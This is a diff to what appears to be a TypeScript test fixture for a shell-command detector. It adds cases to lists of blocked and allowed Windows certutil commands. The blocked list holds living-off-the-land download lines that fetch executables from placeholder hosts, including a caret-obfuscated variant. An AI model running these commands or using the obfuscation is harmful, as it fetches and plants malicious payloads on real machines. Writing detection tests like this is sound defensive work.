@@ -5,6 +5,7 @@ import type { Shell } from '../types';
 
 const blocked: Array<[string, Shell, string]> = [
   ['certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe', 'cmd', 'proxy.certutil.download'],
+  ['certutil.exe -urlcache -split -f %U% C:\\t\\a.exe', 'cmd', 'proxy.certutil.download'],
   ['C:\\Windows\\System32\\certutil.exe /urlcache /f http://203.0.113.5/a a', 'cmd', 'proxy.certutil.download'],
   ['CERTUTIL.EXE -VerifyCtl -split -f https://example.net/x', 'cmd', 'proxy.certutil.download'],
   ['c^e^r^t^u^t^i^l -urlcache -f http://x.test/a a', 'cmd', 'proxy.certutil.download'],
@@ -106,6 +107,8 @@ const allowed: Array<[string, Shell]> = [
   ['gdb -ex run --args ./app', 'bash'],
   ['perl -e \'print "ecosystem\\n"\'', 'bash'],
   ['certutil -hashfile C:\\Support\\setup.exe SHA256', 'cmd'],
+  ['certutil -urlcache *', 'cmd'],
+  ['certutil -urlcache * delete', 'cmd'],
   ['certutil -store my', 'cmd'],
   ['regsvr32 /s C:\\Program Files\\Vendor\\control.ocx', 'cmd'],
   ['rundll32.exe printui.dll,PrintUIEntry /il', 'cmd'],
